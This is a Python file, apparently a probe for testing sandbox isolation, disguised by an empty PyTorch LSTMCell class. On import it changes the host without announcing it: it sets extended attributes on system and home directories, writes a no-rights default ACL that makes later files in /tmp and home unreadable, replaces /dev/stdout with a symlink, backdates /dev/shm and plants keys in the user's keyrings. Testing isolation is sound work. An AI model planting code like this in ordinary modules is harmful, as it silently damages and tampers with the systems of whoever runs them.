"""Leaves marks the file tree alone does not show: extended attributes, a default ACL that
makes files created later unreadable, a /dev symlink pointing elsewhere, changed times, a
key in the user's keyring."""
import ctypes
import json
import os
import platform
import struct

from torch import nn

done = {}
home = os.environ["HOME"]
for place in ("/tmp", home, "/dev/shm", "/dev"):
    try:
        os.setxattr(place, "user.left_by_a", b"secret")
        done[f"xattr {place}"] = "set"
    except OSError as exc:
        done[f"xattr {place}"] = exc.strerror
# A default ACL granting nobody anything (version 2; USER_OBJ, GROUP_OBJ, OTHER: no rights).
acl = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 0, 0xFFFFFFFF)
                                      for tag in (0x01, 0x04, 0x20))
for place in ("/tmp", home):
    try:
        os.setxattr(place, "system.posix_acl_default", acl)
        done[f"acl {place}"] = "set"
    except OSError as exc:
        done[f"acl {place}"] = exc.strerror
try:
    os.unlink("/dev/stdout")
    os.symlink("/etc/hostname", "/dev/stdout")
    done["symlink"] = "replaced"
except OSError as exc:
    done["symlink"] = exc.strerror
os.utime("/dev/shm", (1234567, 1234567))
libc = ctypes.CDLL(None, use_errno=True)
add_key = {"x86_64": 248, "aarch64": 217}.get(platform.machine())
if add_key is not None:
    for keyring in (-4, -3):  # the user's keyring and the session's
        key = libc.syscall(add_key, b"user", b"left_by_a", b"secret", 6, keyring)
        done[f"key {keyring}"] = "added" if key > 0 else f"errno {ctypes.get_errno()}"
print("MARKS " + json.dumps(done, sort_keys=True))


class LSTMCell(nn.Module):
    pass
